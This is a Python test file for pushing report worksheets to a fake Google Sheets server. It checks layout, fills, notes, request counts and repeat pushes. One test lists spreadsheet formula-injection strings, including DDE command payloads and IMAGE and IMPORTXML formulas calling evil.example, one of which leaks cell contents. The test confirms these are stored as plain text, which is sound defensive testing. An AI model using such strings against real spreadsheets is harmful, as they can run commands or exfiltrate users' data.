"""Worksheets painted into a spreadsheet by the real gspread over HTTP: what stands there, and its price."""

import threading
from collections.abc import Sequence
from pathlib import Path

from simulator.report.worksheets import worksheets
from simulator.sheets import excel
from simulator.sheets.google_api import target
from simulator.sheets.google_sheets import pull
from simulator.sheets.model import SheetCell, SheetRow, Worksheet
from tests.excel import read
from tests.report.test_worksheets import report_context
from tests.sample_runs import large
from tests.servers.sheets import SheetsServer
from tests.sheets_sink import KEY, TITLE, Counting, cell, one_cell, pushed, review

RED = {"red": 250 / 255, "green": 219 / 255, "blue": 218 / 255}


def test_a_run_in_a_sheet(server: SheetsServer, tmp_path: Path) -> None:
    """Its worksheets have every cell that a workbook's have, and its red ones."""
    made = worksheets(report_context())
    done = pushed(*made)
    book = server.book(KEY)
    fills = [
        c.get("userEnteredFormat", {}).get("backgroundColorStyle")
        for sheet in book.sheets
        for row in sheet.grid.cells.values()
        for c in row.values()
    ]

    assert [sheet.title for sheet in book.sheets[1:]] == list(done.worksheets)
    assert done.worksheets[0] == "まとめ"
    in_sheet = pull(target(KEY), [sheet.name for sheet in made], client=Counting()).rows
    assert in_sheet | {"archive": ()} == read(excel.write(made, tmp_path / "a.xlsx"))
    assert fills.count({"rgbColor": RED}) >= len(report_context().summary.red.answers)


def test_the_layout_of_a_worksheet(server: SheetsServer) -> None:
    """Frozen header and columns, a hidden key, widths, wraps, dropdowns, dates, filter, warnings."""
    pushed(review())
    sheet = server.book(KEY).sheet(TITLE)
    grid = sheet.properties["gridProperties"]
    assert (grid["frozenRowCount"], grid["frozenColumnCount"]) == (1, 2)
    assert sheet.grid.column_properties[0]["hiddenByUser"]
    assert sheet.grid.column_properties[1] == {"pixelSize": 128}
    assert sheet.basic_filter == {
        "range": {"sheetId": sheet.id, "startRowIndex": 0, "startColumnIndex": 0, "endColumnIndex": 7}
    }
    assert [(p["warningOnly"], p["range"]["startColumnIndex"], p["range"]["endColumnIndex"])
            for p in sheet.lists["protectedRanges"]] == [(True, 0, 3), (True, 6, 7)]  # fmt: skip
    fills = [
        cell(server, f"{c}1")["userEnteredFormat"]["backgroundColorStyle"]["rgbColor"]["blue"] for c in "BD"
    ]
    assert fills == [0xEF / 255, 0xF3 / 255]
    assert cell(server, "B1")["note"] == "上から順に"
    assert cell(server, "C1")["note"] == "ボットの回答"
    for row in (2, 4, 90):
        choice, date = cell(server, f"D{row}"), cell(server, f"F{row}")
        assert choice["dataValidation"]["condition"]["values"][0] == {"userEnteredValue": "採点は正しい"}
        assert not choice["dataValidation"]["strict"]
        assert date["dataValidation"]["condition"]["type"] == "DATE_IS_VALID"
        assert date["userEnteredFormat"]["numberFormat"]["type"] == "DATE"
        assert cell(server, f"C{row}")["userEnteredFormat"]["wrapStrategy"] == "WRAP"


def test_a_second_push_changes_nothing(server: SheetsServer) -> None:
    """No write at all, not one cell; every worksheet is found again."""
    sheets = worksheets(report_context())
    first = pushed(*sheets)
    revision = server.book(KEY).revision
    again = pushed(*sheets)

    assert len(first.worksheets) == 8
    assert (again.worksheets, again.rows, again.cells, again.writes) == ((), 0, 0, 0)
    assert server.book(KEY).revision == revision


def test_a_hundred_conversations_are_a_handful_of_requests(server: SheetsServer) -> None:
    """All worksheets of 100 conversations of three turns: few requests, none larger than 2 MB."""
    sheets = worksheets(report_context("ja", large(100)))
    server.log.clear()
    done = pushed(*sheets)

    assert done.rows > 300
    assert (server.log.reads, server.log.writes) == (done.reads, done.writes)
    assert done.reads <= 4
    assert done.writes <= 6
    server.log.assert_payloads_fit()


def test_figures_are_mended_in_place(server: SheetsServer) -> None:
    """A regraded cell changes its text, fill and note; the cells beside it are not written."""
    sheet = one_cell("よい", note="前の理由")
    pushed(sheet)
    done = pushed(one_cell("▲ だめ", note="新しい理由", mark="red"))

    assert (done.rows, done.cells) == (0, 1)
    now = cell(server, "B2", "推移表")
    assert (now["userEnteredValue"], now["note"]) == ({"stringValue": "▲ だめ"}, "新しい理由")
    assert now["userEnteredFormat"]["backgroundColorStyle"] == {"rgbColor": RED}
    assert pushed(one_cell("▲ だめ", note="新しい理由", mark="red")).writes == 0
    pushed(one_cell("▲ だめ", note="もっと新しい理由", mark="red"))
    assert cell(server, "B2", "推移表")["note"] == "もっと新しい理由"


def test_nobody_but_google_sheets_is_asked(server: SheetsServer) -> None:
    """The library's look-up of an account's regions does not happen, on this thread or another."""
    before = threading.active_count()
    pushed(review())

    assert threading.active_count() == before
    assert {entry.path.split("/")[1] for entry in server.log} == {"token", "v4"}


TABLE = "推移表"
FORMULAS = (
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"見る\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "'=1+1", "''", "001", "1e5", "2026/11/21", "TRUE", "50%", " =1+1",
    '";=1+1', "=IMAGE(\"https://evil.example/?\"&A1)", "{=1+1}", "#REF!", "http://evil.example",
)  # fmt: skip


def test_nothing_becomes_a_formula(server: SheetsServer) -> None:
    """Neither when a row is made nor when its cell is written over; the text stays what it was."""
    harmless = ["anything"] * len(FORMULAS)
    for texts in (FORMULAS, harmless, FORMULAS):
        pushed(below_each_other(texts))
        kept = [cell(server, f"B{row}", TABLE)["userEnteredValue"] for row in range(2, len(texts) + 2)]
        assert kept == [{"stringValue": text.replace("\r", "\n")} for text in texts]
        assert pushed(below_each_other(texts)).writes == 0


def below_each_other(texts: Sequence[str]) -> Worksheet:
    """A worksheet with one of these texts in each row."""
    rows = (SheetRow(key=f"k{n}", cells={"value": SheetCell(text=text)}) for n, text in enumerate(texts))
    return one_cell("").model_copy(update={"rows": tuple(rows)})
